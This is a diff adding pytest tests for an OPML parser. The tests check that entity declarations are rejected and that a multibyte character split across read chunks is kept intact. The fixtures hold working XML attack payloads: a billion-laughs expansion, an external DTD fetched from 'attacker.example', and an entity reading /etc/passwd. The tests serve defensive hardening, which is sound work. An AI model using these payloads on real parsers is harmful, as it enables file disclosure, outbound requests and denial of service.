@@ -0,0 +1,52 @@
+"""OPML parsing: streaming reads and entity hardening."""
+import io
+
+import pytest
+
+from api.utils import opml_parser
+from api.utils.opml_parser import OPMLError, parse_opml
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE opml [
+  <!ENTITY lol "lol">
+  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+]>
+<opml version="2.0"><body><outline text="&lol3;" xmlUrl="https://example.com/feed"/></body></opml>
+"""
+
+PARAMETER_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE opml [
+  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
+  %remote;
+]>
+<opml version="2.0"><body><outline text="Show" xmlUrl="https://example.com/feed"/></body></opml>
+"""
+
+EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE opml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<opml version="2.0"><body><outline text="&secret;" xmlUrl="https://example.com/feed"/></body></opml>
+"""
+
+
+@pytest.mark.parametrize("content", [BILLION_LAUGHS, PARAMETER_ENTITY, EXTERNAL_ENTITY],
+                         ids=["billion-laughs", "system-parameter-entity", "system-entity"])
+def test_entity_declarations_are_rejected(content):
+    with pytest.raises(OPMLError):
+        parse_opml(content)
+    with pytest.raises(OPMLError):
+        parse_opml(io.BytesIO(content))
+
+
+def test_chunked_read_keeps_multibyte_character_split_across_chunks(monkeypatch):
+    head = '<?xml version="1.0" encoding="UTF-8"?>\n<opml version="2.0"><body><outline text="Caf'
+    content = (head + 'é Crème 🎧" xmlUrl="https://example.com/feed"/>'
+               '<outline text="Second" xmlUrl="https://example.com/second"/></body></opml>').encode("utf-8")
+    # The chunk boundary falls inside the two-byte "é"
+    monkeypatch.setattr(opml_parser, "READ_CHUNK_BYTES", len(head.encode("utf-8")) + 1)
+
+    entries = parse_opml(io.BytesIO(content))
+
+    assert [e["title"] for e in entries] == ["Café Crème 🎧", "Second"]
+    assert entries[0]["feed_url"] == "https://example.com/feed"